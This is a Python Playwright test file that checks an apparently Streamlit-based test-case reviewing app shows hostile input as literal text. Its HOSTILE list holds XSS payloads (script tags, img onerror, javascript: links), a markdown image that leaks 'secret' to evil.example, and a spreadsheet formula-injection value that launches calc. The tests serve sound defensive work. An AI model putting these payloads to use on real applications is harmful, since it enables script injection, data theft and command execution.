"""Hostile text in a real browser: shown letter for letter, no script, no request elsewhere."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Page, expect
from reviewing import edit, open_case, press, rows

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![exfil](https://evil.example/?d=secret)",
    "[click](javascript:alert(1))",
    "https://evil.example/path www.evil.example eve@evil.example",
    "$\\href{javascript:alert(1)}{x}$ and $$\\frac{1}{2}$$",
    ":material/home: :smile: :red[not red] :streamlit:",
    "`code` **bold** _it_ ~~gone~~ # h > q | a | b |",
    "&lt;b&gt; &#58; \\[escaped\\] a -> b",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.slow
def test_a_hostile_epic_is_shown_as_it_is(server: object, page: Page) -> None:
    criteria = "\n".join(f"- The field shows {text} for 14 days." for text in HOSTILE)
    epic = "# PAY-9 <b>Bold</b> ![x](https://evil.example/x)\n\n## PAY-91 Odd input\n"
    epic += (
        f"As an agent I want odd input so that it is safe.\n\nAcceptance criteria:\n{criteria}\n"
    )
    page.goto(server.url)
    page.get_by_label("Epic, stories and acceptance criteria").fill(epic)
    page.locator(".st-key-generate button").first.click()
    expect(page.get_by_text(re.compile(r"^\d+ cases: ")).first).to_be_visible(timeout=180_000)
    main = page.locator('[data-testid="stMain"]')
    expect(main).to_contain_text("<script>alert(1)</script>", timeout=60_000)
    for name in ("Coverage", "Quality", "Questions", "Cases"):
        page.get_by_role("radio", name=re.compile(name)).click()
        page.wait_for_timeout(700)
    for _ in range(3):
        press(page, "n")
    image = "<img src=x onerror=alert(1)>"
    rows(page).filter(has_text=image).first.click()
    expect(open_case(page)).to_contain_text("AC2")  # the key is meant for this case
    edit(page)
    expect(page.get_by_label("Title")).to_have_value(re.compile(re.escape(image)))
    assert page.locator("img[src*=evil], a[href*=evil], a[href^=javascript]").count() == 0


@pytest.mark.slow
def test_the_corpus_survives_markdown_unchanged(server: object, page: Page) -> None:
    """The import preview of rules shows pasted text through the same escaping."""
    page.goto(f"{server.url}/import_sources")
    page.get_by_text("Paste text").click()
    rules = "\n".join(f"- BR-{n} {text}" for n, text in enumerate(HOSTILE, start=1))
    page.get_by_label("Text", exact=True).fill(f"# Business rules\n\n{rules}\n")
    page.get_by_label("Text", exact=True).press("ControlOrMeta+Enter")
    page.get_by_role("button", name=re.compile("Keep and index")).click()
    documents = page.get_by_test_id("stDataFrame").first.locator('[role="gridcell"]')
    expect(documents.filter(has_text="Business rules").last).to_be_attached()
    page.wait_for_timeout(1000)
    expect(documents.filter(has_text="not yet")).to_have_count(0, timeout=180_000)
    page.get_by_role("link", name="Configure retrieval").click()
    expect(page.get_by_role("heading", name="Configure retrieval")).to_be_visible()
    for number in (1, 3, 5, 7, 9):
        query = page.get_by_placeholder("For example: cooling-off", exact=False)
        query.fill(f"BR-{number} {HOSTILE[number - 1]}")
        query.press("Enter")
        expect(page.get_by_text("query embedding").first).to_be_visible(timeout=180_000)
        page.wait_for_timeout(1000)
    shown = page.locator('[data-testid="stMain"]').inner_text().replace("\u2060", "")
    assert "&lt;b&gt; &#58; \\[escaped\\] a -> b" in shown
    assert page.locator("img[src*=evil], a[href*=evil], a[href^=javascript]").count() == 0
